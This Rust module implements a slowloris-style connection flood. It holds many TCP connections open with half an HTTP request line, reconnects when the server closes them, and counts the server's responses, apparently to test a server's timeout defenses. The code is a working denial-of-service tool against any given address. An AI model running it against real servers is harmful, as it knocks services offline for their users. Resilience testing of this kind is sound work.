//! The attackers: connections that each send half a request line and then nothing, as
//! slowloris does. When the server closes one, it reconnects after `--reconnect-after`, so the
//! pressure stays at `--connections` for the whole run.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::watch;
use tokio::task::JoinSet;

/// Half a request line: the server has to wait for the rest or give up on it.
const HALF_A_REQUEST_LINE: &[u8] = b"GET /health/li";

/// What the attack counts while it runs.
#[derive(Debug, Default)]
pub struct Counters {
    /// Connections open (connected, half a line sent, not closed by the server yet).
    pub open: AtomicUsize,
    /// Connections made, reconnections included.
    pub connects: AtomicU64,
    /// Connections the server closed.
    pub closed_by_server: AtomicU64,
    /// Connection attempts that failed (refused, timed out).
    pub failed: AtomicU64,
}

pub struct Attack {
    pub counters: Arc<Counters>,
    stop: watch::Sender<bool>,
    tasks: JoinSet<()>,
}

impl Attack {
    /// Starts `connections` attackers against `addr`.
    pub fn start(addr: SocketAddr, connections: usize, reconnect_after: Duration) -> Self {
        let counters = Arc::new(Counters::default());
        let (stop, stopped) = watch::channel(false);
        let mut tasks = JoinSet::new();
        for _ in 0..connections {
            tasks.spawn(attacker(
                addr,
                counters.clone(),
                stopped.clone(),
                reconnect_after,
            ));
        }
        Self {
            counters,
            stop,
            tasks,
        }
    }

    /// Closes every attacking connection.
    pub async fn stop(mut self) {
        let _ = self.stop.send(true);
        while self.tasks.join_next().await.is_some() {}
    }
}

async fn attacker(
    addr: SocketAddr,
    counters: Arc<Counters>,
    mut stopped: watch::Receiver<bool>,
    reconnect_after: Duration,
) {
    loop {
        let held = async {
            let Ok(Ok(mut conn)) =
                tokio::time::timeout(Duration::from_secs(10), TcpStream::connect(addr)).await
            else {
                counters.failed.fetch_add(1, Ordering::Relaxed);
                return;
            };
            counters.connects.fetch_add(1, Ordering::Relaxed);
            if conn.write_all(HALF_A_REQUEST_LINE).await.is_err() {
                counters.closed_by_server.fetch_add(1, Ordering::Relaxed);
                return;
            }
            counters.open.fetch_add(1, Ordering::Relaxed);
            // The server never answers half a line: any read result means it closed.
            let mut byte = [0u8; 1];
            let _ = conn.read(&mut byte).await;
            counters.open.fetch_sub(1, Ordering::Relaxed);
            counters.closed_by_server.fetch_add(1, Ordering::Relaxed);
        };
        tokio::select! {
            () = held => {}
            _ = stopped.wait_for(|s| *s) => return,
        }
        tokio::select! {
            () = tokio::time::sleep(reconnect_after) => {}
            _ = stopped.wait_for(|s| *s) => return,
        }
    }
}
